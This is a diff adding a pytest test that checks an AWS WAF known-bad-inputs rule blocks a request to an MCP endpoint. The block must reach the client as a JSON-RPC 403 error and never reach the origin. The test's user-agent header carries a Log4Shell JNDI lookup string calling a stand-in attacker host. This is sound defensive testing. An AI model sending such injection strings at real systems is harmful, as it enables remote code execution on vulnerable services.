@@ -86,3 +86,18 @@ def test_requests_without_a_token_are_limited_per_ip_before_the_functions_401(ed
     assert answers == [401] * 10 + [429]
     assert not seen
     assert read_block_log(blocks)["rules"]["anonymous-ip-limit"]["total"] == 1
+
+
+def test_a_managed_rule_block_reaches_the_client_as_a_json_rpc_403_and_never_the_origin(edge) -> None:
+    url, seen, blocks = edge
+    body = {"jsonrpc": "2.0", "id": 1, "method": "tools/list"}
+    blocked = httpx.post(f"{url}/mcp", json=body, timeout=10, headers={
+        "authorization": f"Bearer {_token(url)}", "user-agent": "${jndi:ldap://attacker.example/a}"})
+    assert blocked.status_code == 403
+    assert blocked.headers["content-type"] == "application/json"
+    error = blocked.json()
+    assert error["jsonrpc"] == "2.0" and error["id"] is None
+    assert error["error"]["code"] == -32030
+    assert error["error"]["data"] == {"blockedBy": "aws-waf", "ruleGroup": "AWSManagedRulesKnownBadInputsRuleSet"}
+    assert seen == []
+    assert read_block_log(blocks)["rules"]["aws-known-bad-inputs:Log4JRCE_HEADER"]["total"] == 1
